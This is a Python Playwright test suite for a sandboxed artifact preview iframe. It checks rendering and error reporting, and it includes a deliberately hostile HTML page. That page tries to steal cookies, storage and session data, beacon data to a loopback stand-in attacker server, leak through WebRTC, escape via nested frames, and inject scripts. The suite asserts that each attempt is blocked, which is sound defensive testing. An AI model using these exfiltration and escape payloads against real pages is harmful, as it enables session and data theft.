"""The artifact preview frame in Chromium: every artifact type renders in the sandboxed frame, errors
come back to the parent, and a hostile artifact reads nothing, reaches no host and changes nothing
in the Parley page that embeds it — asserted in the browser, not read off the code."""

from __future__ import annotations

import html
import json
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import FrameLocator, Page, Route, expect

from parley.artifact_frame import published_page
from tests.e2e.conftest import ParleyServer

pytestmark = pytest.mark.e2e

FRAME = "#artifact-frame"


def open_frame(page: Page) -> FrameLocator:
    """Injects the frame into a signed-in Parley page, as the artifact panel does, and waits for ready."""
    page.evaluate(
        """() => new Promise((resolve) => {
            window.__frameMessages = [];
            const iframe = document.createElement('iframe');
            iframe.id = 'artifact-frame';
            iframe.setAttribute('sandbox', 'allow-scripts');
            iframe.src = '/artifact-frame';
            iframe.title = 'Artifact preview';
            iframe.style.cssText =
                'position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff';
            window.addEventListener('message', (event) => {
                if (event.source === iframe.contentWindow) window.__frameMessages.push(event.data);
            });
            iframe.addEventListener('load', () => resolve(), { once: true });
            document.body.append(iframe);
        })"""
    )
    page.wait_for_function(
        "() => window.__frameMessages.some(m => m && m.type === 'ready')", timeout=10_000
    )
    return page.frame_locator(FRAME)


def render(
    page: Page,
    kind: str,
    content: str,
    *,
    final: bool = True,
    language: str | None = None,
    theme: str | None = None,
) -> None:
    message: dict[str, Any] = {
        "parley": 1,
        "type": "render",
        "artifact": {"type": kind, "content": content, "title": kind, "language": language},
        "final": final,
    }
    if theme:
        message["theme"] = theme
    page.evaluate(
        "m => document.getElementById('artifact-frame').contentWindow.postMessage(m, '*')", message
    )


def messages(page: Page) -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = page.evaluate("() => window.__frameMessages")
    return result


def clear_messages(page: Page) -> None:
    page.evaluate("() => { window.__frameMessages.length = 0; }")


def wait_for_message(page: Page, kind: str, timeout: float = 15_000) -> dict[str, Any]:
    page.wait_for_function(
        "kind => window.__frameMessages.some(m => m && m.type === kind)", arg=kind, timeout=timeout
    )
    return next(m for m in messages(page) if m.get("type") == kind)


def errors(page: Page) -> list[dict[str, Any]]:
    return [m for m in messages(page) if m.get("type") == "error"]


def test_html_artifact_renders_and_runs_its_scripts(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    render(
        page,
        "html",
        """<!doctype html><html><head><style>h1 { color: rgb(180, 83, 42); }</style></head>
        <body><h1>Hello from HTML</h1><p id="out">waiting</p><p id="loaded">no</p>
        <script>document.getElementById('out').textContent = 'ran ' + (1 + 1);</script>
        <script>document.addEventListener('DOMContentLoaded', () => {
            document.getElementById('loaded').textContent = 'yes'; });</script></body></html>""",
    )
    expect(frame.locator("h1")).to_have_text("Hello from HTML")
    expect(frame.locator("h1")).to_have_css("color", "rgb(180, 83, 42)")
    expect(frame.locator("#out")).to_have_text("ran 2")
    expect(frame.locator("#loaded")).to_have_text("yes")
    wait_for_message(page, "rendered")
    page.wait_for_function(
        "() => window.__frameMessages.some(m => m.type === 'height' && m.height > 50)"
    )
    assert errors(page) == []


def test_html_page_using_the_tailwind_cdn_gets_the_bundled_tailwind(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    render(
        page,
        "html",
        """<html><head><script src="https://cdn.tailwindcss.com"></script>
        <script>tailwind.config = { theme: {} };</script></head>
        <body><div id="box" class="p-8 bg-emerald-500">styled</div></body></html>""",
    )
    expect(frame.locator("#box")).to_have_css("padding-top", "32px")
    assert errors(page) == []


REACT_APP = """
import React, { useState } from "react";
import { Heart } from "lucide-react";
import { BarChart, Bar, XAxis, YAxis } from "recharts";

const data = [{ name: "Mon", visits: 3 }, { name: "Tue", visits: 7 }, { name: "Wed", visits: 5 }];

export default function App(): JSX.Element {
  const [count, setCount] = useState<number>(0);
  return (
    <div className="p-6 space-y-4">
      <button className="inline-flex items-center gap-2 rounded-lg bg-blue-600 px-4 py-2 text-white"
              onClick={() => setCount((c) => c + 1)}>
        <Heart className="h-4 w-4" aria-label="heart" /> Liked {count} times
      </button>
      <BarChart width={360} height={200} data={data}>
        <XAxis dataKey="name" />
        <YAxis />
        <Bar dataKey="visits" fill="#b4532a" isAnimationActive={false} />
      </BarChart>
    </div>
  );
}
"""


def test_react_artifact_with_state_icon_and_chart_renders_and_responds(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    render(page, "react", REACT_APP)
    button = frame.get_by_role("button")
    expect(button).to_have_text("Liked 0 times")
    expect(frame.locator("svg.lucide-heart")).to_have_count(1)
    expect(frame.locator(".recharts-bar-rectangle")).to_have_count(3)
    expect(frame.locator(".recharts-cartesian-axis-tick-value", has_text="Tue")).to_have_count(1)
    # Tailwind classes are compiled in the frame by the bundled @tailwindcss/browser.
    expect(button).to_have_css("padding-left", "16px")
    assert button.evaluate("b => getComputedStyle(b).backgroundColor") != "rgba(0, 0, 0, 0)"
    button.click()
    button.click()
    expect(button).to_have_text("Liked 2 times")
    wait_for_message(page, "rendered")
    assert errors(page) == []


def test_mermaid_diagram_renders_an_svg(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    render(page, "mermaid", "graph TD\n  A[Start] --> B{Ready?}\n  B -->|yes| C[Ship it]\n")
    diagram = frame.locator(".parley-mermaid svg")
    expect(diagram).to_have_count(1, timeout=30_000)
    expect(diagram.get_by_text("Ship it")).to_be_visible()
    wait_for_message(page, "rendered")
    assert errors(page) == []


def test_markdown_code_and_svg_render(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    render(
        page,
        "markdown",
        "# Notes\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f():\n    return 1\n```\n"
        "<img src=x onerror=\"document.title='pwned'\">\n",
    )
    expect(frame.locator("article h1")).to_have_text("Notes")
    expect(frame.locator("article table td").first).to_have_text("1")
    expect(frame.locator("article pre code .hljs-keyword").first).to_have_text("def")
    assert frame.locator("img").evaluate("img => img.getAttribute('onerror')") is None

    render(page, "code", "const x = 1;\nconsole.log(x);\n", language="javascript")
    expect(frame.locator(".parley-code .hljs-keyword").first).to_have_text("const")
    expect(frame.locator(".parley-code .gutter")).to_have_text("1\n2")

    render(
        page,
        "svg",
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
        '<rect width="40" height="20" fill="#b4532a"/><script>parent.x=1</script></svg>',
    )
    svg = frame.locator(".parley-svg svg")
    expect(svg).to_have_attribute("viewBox", "0 0 40 20")
    assert frame.locator(".parley-svg script").count() == 0
    box = svg.bounding_box()
    assert box is not None and box["width"] > 400, box
    assert errors(page) == []


def test_runtime_errors_are_reported_to_the_parent(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    render(page, "html", "<p>before</p><script>null.boom();</script>")
    error = wait_for_message(page, "error")
    assert "null" in error["message"] and "TypeError" in error["message"], error

    clear_messages(page)
    render(
        page,
        "react",
        """export default function App() {
          return <button onClick={() => { throw new Error("clicked too hard"); }}>Press</button>;
        }""",
    )
    frame.get_by_role("button", name="Press").click()
    assert "clicked too hard" in wait_for_message(page, "error")["message"]

    clear_messages(page)
    render(page, "react", "export default function App() { return <div>{missing.value}</div>; }")
    assert "missing" in wait_for_message(page, "error")["message"]
    expect(frame.get_by_role("alert")).to_contain_text("missing")

    clear_messages(page)
    render(page, "react", "export default function App( { return <div>unclosed</div>; }")
    assert "does not compile" in wait_for_message(page, "error")["message"]

    clear_messages(page)
    render(page, "mermaid", "graph TD\n  A -->")
    assert wait_for_message(page, "error", timeout=30_000)["message"]

    clear_messages(page)
    render(page, "react", 'import x from "left-pad";\nexport default () => <p>{x}</p>;')
    assert "left-pad" in wait_for_message(page, "error")["message"]


def test_partial_render_keeps_the_previous_one_and_reports_nothing(signed_in: Page) -> None:
    page = signed_in
    frame = open_frame(page)
    good = "export default function App() { return <h2>Version one</h2>; }"
    render(page, "react", good, final=False)
    expect(frame.locator("h2")).to_have_text("Version one")
    clear_messages(page)
    render(page, "react", "export default function App() { return <h2>Vers", final=False)
    render(
        page, "react", "export default function App() { return <h2>{oops.x}</h2>; }", final=False
    )
    render(page, "svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect", final=False)
    page.wait_for_timeout(800)
    expect(frame.locator("h2")).to_have_text("Version one")
    assert errors(page) == []
    render(page, "react", "export default function App() { return <h2>Version two</h2>; }")
    expect(frame.locator("h2")).to_have_text("Version two")
    expect(frame.locator("h2")).to_have_count(1)
    assert errors(page) == []


@dataclass
class Listener:
    """A loopback HTTP and UDP listener standing in for an attacker's server."""

    http_port: int
    udp_port: int
    requests: list[str] = field(default_factory=list)
    datagrams: list[tuple[str, int]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.http_port}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def _record(self) -> None:
            seen.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"leaked")

        do_GET = do_POST = do_HEAD = do_OPTIONS = _record

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    state = Listener(http_port=server.server_address[1], udp_port=udp.getsockname()[1])
    state.requests = seen
    stop = threading.Event()

    def receive() -> None:
        while not stop.is_set():
            try:
                _, address = udp.recvfrom(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            state.datagrams.append(address)

    threads = [
        threading.Thread(target=server.serve_forever, daemon=True),
        threading.Thread(target=receive, daemon=True),
    ]
    for thread in threads:
        thread.start()
    try:
        yield state
    finally:
        stop.set()
        server.shutdown()
        server.server_close()
        udp.close()


def hostile_page(listener: Listener) -> str:
    beacon = listener.url
    stun = f"stun:127.0.0.1:{listener.udp_port}"
    rtc = (
        f"try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}});"
        " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); }"
        " catch (e) {}"
    )
    nested_markup = f"<script>{rtc}</script>"
    nested = json.dumps(nested_markup).replace("</", "<\\/")
    return f"""<!doctype html><html><head>
<link rel="stylesheet" href="{beacon}/stylesheet">
<link rel="prefetch" href="{beacon}/prefetch">
<link rel="preconnect" href="{beacon}/preconnect">
<style>body {{ background-image: url("{beacon}/css-background"); }}
@font-face {{ font-family: x; src: url("{beacon}/font"); }} p {{ font-family: x; }}</style>
<script src="{beacon}/script.js"></script>
</head><body>
<p>hostile</p>
<img src="{beacon}/img-tag">
<video src="{beacon}/video"></video>
<form id="form" method="post" action="{beacon}/form"><input name="secret" value="s3cret"></form>
<div><template shadowrootmode="closed"><iframe srcdoc="{html.escape(nested_markup)}"></iframe></template></div>
<pre id="results">running</pre>
<script>
// Spelled in pieces, so that only the runtime's guards (not its markup rewrite) can stop these.
var declarative = '<template shadowroot' + 'mode="closed"><iframe srcdoc="'
  + {nested}.replace(/"/g, '&quot;') + '"></iframe></template>';
document.write('<div>' + declarative + '</div>');
</script>
<script>
(async () => {{
  const results = {{}};
  const show = (value) => String(value).slice(0, 200);
  const attempt = (name, fn) => {{
    try {{ results[name] = 'got:' + show(fn()); }} catch (e) {{ results[name] = 'blocked:' + e.name; }}
  }};
  const attemptAsync = async (name, fn) => {{
    try {{ results[name] = 'got:' + show(await fn()); }} catch (e) {{ results[name] = 'blocked:' + e.name; }}
  }};
  attempt('cookie', () => document.cookie);
  attempt('parentDocument', () => parent.document.title);
  attempt('parentCookie', () => parent.document.cookie);
  attempt('parentStorage', () => parent.localStorage.length);
  attempt('localStorage', () => localStorage.getItem('parley-theme'));
  attempt('sessionStorage', () => sessionStorage.length);
  attempt('indexedDB', () => indexedDB.open('steal'));
  attempt('windowOpen', () => window.open('{beacon}/window-open'));
  attempt('topLocation', () => {{ top.location = '{beacon}/top-location'; return 'assigned'; }});
  attempt('parentLocation', () => {{ parent.location.href = '{beacon}/parent-location'; return 'assigned'; }});
  attempt('rtc', () => new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}}));
  attempt('sendBeacon', () => navigator.sendBeacon('{beacon}/send-beacon', 'data'));
  attempt('form', () => {{ document.getElementById('form').submit(); return 'submitted'; }});
  await attemptAsync('fetchMe', () => fetch('/api/auth/me', {{credentials: 'include'}}).then(r => r.text()));
  await attemptAsync('fetchBeacon', () => fetch('{beacon}/fetch', {{mode: 'no-cors'}}).then(r => r.type));
  await attemptAsync('xhr', () => new Promise((resolve, reject) => {{
    const xhr = new XMLHttpRequest();
    xhr.open('GET', '/api/auth/me');
    xhr.onload = () => resolve(xhr.responseText);
    xhr.onerror = () => reject(new TypeError('xhr failed'));
    xhr.send();
  }}));
  await attemptAsync('websocket', () => new Promise((resolve, reject) => {{
    const ws = new WebSocket('{beacon.replace("http", "ws")}/ws');
    ws.onopen = () => resolve('open');
    ws.onerror = () => reject(new TypeError('ws failed'));
  }}));
  await attemptAsync('eventSource', () => new Promise((resolve, reject) => {{
    const source = new EventSource('{beacon}/events');
    source.onopen = () => resolve('open');
    source.onerror = () => reject(new TypeError('eventsource failed'));
  }}));
  await attemptAsync('image', () => new Promise((resolve, reject) => {{
    const img = new Image();
    img.onload = () => resolve('loaded');
    img.onerror = () => reject(new TypeError('image failed'));
    img.src = '{beacon}/img-beacon?c=' + encodeURIComponent(String(document.cookie));
  }}));
  await attemptAsync('dynamicScript', () => new Promise((resolve, reject) => {{
    const script = document.createElement('script');
    script.onload = () => resolve('loaded');
    script.onerror = () => reject(new TypeError('script failed'));
    script.src = '{beacon}/dynamic-script.js';
    document.head.append(script);
  }}));
  await attemptAsync('worker', () => new Worker('/artifact-runtime/frame.js'));
  // Nested frames would give a fresh realm with WebRTC back.
  const srcdoc = document.createElement('iframe');
  srcdoc.srcdoc = {nested};
  document.body.append(srcdoc);
  const jsUrl = document.createElement('iframe');
  jsUrl.src = 'javascript:' + JSON.stringify({nested});
  document.body.append(jsUrl);
  document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + {nested}.replace(/"/g, '&quot;') + '"></iframe>');
  const host = document.createElement('div');
  host.attachShadow({{mode: 'open'}}).innerHTML = '<iframe srcdoc="' + {nested}.replace(/"/g, '&quot;') + '"></iframe>';
  document.body.append(host);
  document.body.appendChild(document.createElement('div')).setHTMLUnsafe(declarative);
  Document.parseHTMLUnsafe('<body>' + declarative);
  await new Promise((resolve) => setTimeout(resolve, 300));
  results.nestedFrames = document.querySelectorAll('iframe').length + host.shadowRoot.querySelectorAll('iframe').length;
  document.getElementById('results').textContent = JSON.stringify(results);
}})();
</script>
</body></html>"""


# what the app itself keeps in localStorage and updates when the person's settings arrive from
# the server (at any moment after sign-in): not evidence of the artifact
APP_STORAGE = ("parley-theme", "parley-appearance")


def parent_state(page: Page) -> dict[str, Any]:
    state: dict[str, Any] = page.evaluate(
        """(own) => ({
            url: location.href,
            title: document.title,
            cookie: document.cookie,
            storage: JSON.stringify(
                Object.entries(localStorage).filter(([key]) => !own.includes(key)).sort()
            ),
        })""",
        list(APP_STORAGE),
    )
    state["cookies"] = sorted(
        (c["name"], c["value"], c["domain"], c["path"]) for c in page.context.cookies()
    )
    return state


def test_hostile_artifact_gets_nothing_and_changes_nothing(
    signed_in: Page, listener: Listener
) -> None:
    page = signed_in
    page.evaluate("() => localStorage.setItem('parley-secret', 'do-not-leak')")
    before = parent_state(page)
    assert any(name == "parley_session" for name, *_ in before["cookies"])
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    frame = open_frame(page)
    # Chromium reports requests that CSP then refuses as failed ones; what completed is what left.
    completed: list[str] = []
    page.on(
        "requestfinished",
        lambda r: completed.append(r.url) if r.frame.parent_frame is not None else None,
    )

    render(page, "html", hostile_page(listener))
    frame.locator("#results").filter(has_not_text="running").wait_for()
    results = json.loads(frame.locator("#results").text_content() or "{}")
    time.sleep(2.5)  # time for any beacon, STUN packet or navigation to arrive

    assert listener.requests == [], listener.requests
    assert listener.datagrams == [], listener.datagrams
    for name in (
        "cookie",
        "parentDocument",
        "parentCookie",
        "parentStorage",
        "localStorage",
        "sessionStorage",
        "indexedDB",
    ):
        assert results[name] == "blocked:SecurityError", (name, results[name])
    for name in (
        "fetchMe",
        "fetchBeacon",
        "xhr",
        "websocket",
        "eventSource",
        "image",
        "dynamicScript",
    ):
        assert results[name].startswith("blocked:"), (name, results[name])
    assert results["rtc"] == "blocked:ReferenceError"
    assert results["worker"].startswith("blocked:"), results["worker"]
    assert results["windowOpen"] == "got:null"
    assert results["nestedFrames"] == 0
    assert results["topLocation"] == "blocked:SecurityError"
    assert results["parentLocation"] == "blocked:SecurityError"

    runtime = page.url.split("/", 3)[:3]
    allowed = "/".join(runtime) + "/artifact-runtime/"
    assert [url for url in completed if not url.startswith(allowed)] == []
    assert parent_state(page) == before
    assert len(page.context.pages) == 1
    assert dialogs == []
    # The app behind the frame still works.
    page.evaluate("() => document.getElementById('artifact-frame').remove()")
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()


def test_artifact_cannot_navigate_its_frame_to_another_host(
    signed_in: Page, listener: Listener
) -> None:
    page = signed_in
    before = parent_state(page)
    open_frame(page)
    render(
        page,
        "html",
        f"""<meta http-equiv="refresh" content="0;url={listener.url}/meta-refresh">
        <a id="link" href="{listener.url}/link">link</a>
        <script>setTimeout(() => {{ location.href = '{listener.url}/self-navigation'; }}, 50);</script>""",
    )
    time.sleep(2)
    assert listener.requests == [], listener.requests
    assert parent_state(page) == before


def test_frame_document_is_served_with_its_policy(page: Page, parley_server: ParleyServer) -> None:
    response = page.goto("/artifact-frame")
    assert response is not None and response.status == 200
    headers = response.headers
    policy = headers["content-security-policy"]
    for directive in (
        "default-src 'none'",
        "connect-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'self'",
        "sandbox allow-scripts",
    ):
        assert directive in policy, directive
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    # Opened on its own, the document is still sandboxed: its origin is opaque.
    assert page.evaluate("() => self.origin") == "null"


def test_published_page_shows_the_artifact_full_page(
    page: Page, parley_server: ParleyServer
) -> None:
    artifact = {
        "title": "Chart </script><script>alert(1)</script>",
        "type": "react",
        "language": None,
        "content": 'export default function App() { return <h1 className="text-3xl">'
        '{"Published </script> safely"}</h1>; }',
    }
    served = published_page(artifact)

    def fulfil(route: Route) -> None:
        route.fulfill(
            status=200,
            body=served.body,
            headers={k: v for k, v in served.headers.items() if k.lower() != "content-length"},
        )

    page.route("**/a/test-token", fulfil)
    violations: list[str] = []
    page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto("/a/test-token")
    expect(page).to_have_title(artifact["title"])
    expect(page.get_by_text("Published with Parley")).to_be_visible()
    heading = page.frame_locator("#parley-frame").locator("h1")
    expect(heading).to_have_text("Published </script> safely")
    box = page.locator("#parley-frame").bounding_box()
    assert box is not None and box["height"] > 600, box
    assert dialogs == []
    assert violations == [], violations
